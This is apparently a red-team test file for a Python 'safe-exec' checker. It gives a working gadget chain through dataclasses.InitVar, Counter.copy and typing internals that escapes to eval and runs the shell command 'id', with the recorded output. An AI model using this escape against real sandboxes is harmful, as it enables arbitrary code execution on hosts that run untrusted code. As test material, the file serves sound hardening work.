# expect: reject unbound
# line: 21
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family G: a library generic that hands its index back (Annotated forwards reads, Union of one is the class, InitVar keeps it as .type)

# Mechanism: library_generic() allows a library class as the index of dataclasses.InitVar; InitVar[C] keeps C as its public attribute .type, which is no class-holding name (only default_factory, suiteClass, resultclass are), so ks[0].type is the class by value
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import dataclasses
import typing

class P:
    pass

ks = [dataclasses.InitVar[collections.Counter]]  # InitVar[C] keeps C as the public attribute .type
K = ks[0].type
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
